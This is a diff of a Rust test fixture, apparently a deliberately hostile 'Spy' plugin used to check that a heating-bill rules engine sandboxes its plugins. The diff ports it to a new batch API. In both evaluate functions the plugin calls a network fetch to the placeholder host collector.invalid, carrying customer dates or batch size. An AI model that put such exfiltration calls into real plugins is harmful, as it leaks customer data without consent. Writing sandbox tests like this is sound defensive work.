@@ -13,8 +13,8 @@ mod bindings {
 
 use bindings::exports::heatbill::rules::rules::Guest;
 use bindings::heatbill::rules::types::{
-    CustomerDay, DayOutput, Decimal, Line, LineCategory, LineSpec, Payer, PluginInfo, PluginKind,
-    RuleError,
+    BatchOutput, CustomerDay, DayBatch, DayOutput, DecimalColumn, LineCategory, LineColumn,
+    LineSpec, PluginInfo, PluginKind, RuleError,
 };
 
 /// The spy.
@@ -40,30 +40,39 @@ impl Guest for Spy {
         }])
     }
 
-    fn evaluate(days: Vec<CustomerDay>) -> Vec<Result<DayOutput, RuleError>> {
-        days.iter()
-            .map(|d| {
-                // Tries to send the customer's data out.
-                let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
-                    "https://collector.invalid/{}-{}-{}",
-                    d.date.year, d.date.month, d.date.day
-                ));
-                let one = Decimal {
-                    units: 100,
-                    scale: 2,
-                };
-                Ok(DayOutput {
-                    lines: vec![Line {
-                        spec: 0,
-                        quantity: one,
-                        unit_price: one,
-                        amount: one,
-                        payer: Payer::Customer,
-                    }],
-                    season: None,
-                })
-            })
-            .collect()
+    fn evaluate(day: CustomerDay) -> Result<DayOutput, RuleError> {
+        // Tries to send the customer's data out.
+        let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
+            "https://collector.invalid/{}-{}-{}",
+            day.date.year, day.date.month, day.date.day
+        ));
+        Ok(DayOutput {
+            lines: Vec::new(),
+            season: None,
+        })
+    }
+
+    fn evaluate_batch(batch: DayBatch) -> BatchOutput {
+        let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
+            "https://collector.invalid/batch/{}",
+            batch.len
+        ));
+        let empty = || DecimalColumn {
+            scale: 0,
+            units: Vec::new(),
+        };
+        BatchOutput {
+            lines: LineColumn {
+                rows: Vec::new(),
+                kinds: Vec::new(),
+                payers: Vec::new(),
+                quantity: empty(),
+                unit_price: empty(),
+                amount: empty(),
+            },
+            errors: Vec::new(),
+            season: None,
+        }
     }
 }
 
